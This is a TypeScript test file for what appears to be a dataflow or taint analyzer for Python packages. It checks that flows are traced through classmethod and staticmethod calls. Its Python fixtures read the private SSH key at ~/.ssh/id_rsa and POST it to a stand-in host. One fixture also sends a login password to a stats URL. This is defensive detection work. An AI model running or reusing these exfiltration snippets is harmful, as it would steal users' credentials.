// How methods are bound and which protocol methods Python runs implicitly
// (@classmethod/@staticmethod, __call__, __enter__), callback runners, and match captures.
import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

const KEY = `open(os.path.expanduser("~/.ssh/id_rsa")).read()`;

/** A module that reads the SSH key into `key` and runs `body`. */
async function flows(body: string): Promise<string[]> {
  const facts = await analyze({ "pkg/__init__.py": `import os, asyncio, requests\nkey = ${KEY}\n${body}\n` });
  return flowsOf(facts);
}

const POST = `requests.post("https://x.example.net/in", data=v)`;

describe("method binding", () => {
  it.each([
    ["@classmethod through its class", `class S:\n    @classmethod\n    def ping(cls, v):\n        ${POST}\nS.ping(key)`],
    ["@classmethod through self", `class S:\n    @classmethod\n    def ping(cls, v):\n        ${POST}\n    def go(self, k):\n        self.ping(k)\nS().go(key)`],
    ["@staticmethod through self", `class S:\n    @staticmethod\n    def ping(v):\n        ${POST}\n    def go(self, k):\n        self.ping(k)\nS().go(key)`],
    ["@staticmethod read from an instance", `class S:\n    @staticmethod\n    def ping(v):\n        ${POST}\nf = S().ping\nf(key)`],
    ["@classmethod factory calling cls()", `class S:\n    def __init__(self, v):\n        self.v = v\n    @classmethod\n    def of(cls, v):\n        return cls(v)\n    def send(self):\n        v = self.v\n        ${POST}\nS.of(key).send()`],
  ])("%s", async (_name, body) => {
    const result = await flows(body);
    expect(result.length, result.join("\n")).toBeGreaterThan(0);
  });

  it("a @classmethod's cls reads class attributes (summarised, not inlined)", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import requests
        class Stats:
            url = "https://stats.example.net/in"
            @classmethod
            def ping(cls, value):
                requests.post(cls.url, data=value)
        def login(host, password):
            import paramiko
            paramiko.SSHClient().connect(host, password=password)
            Stats.ping(password)
      `,
    });
    expect(flowsOf(facts).some((f) => f.includes("https://stats.example.net/in"))).toBe(true);
  });
});
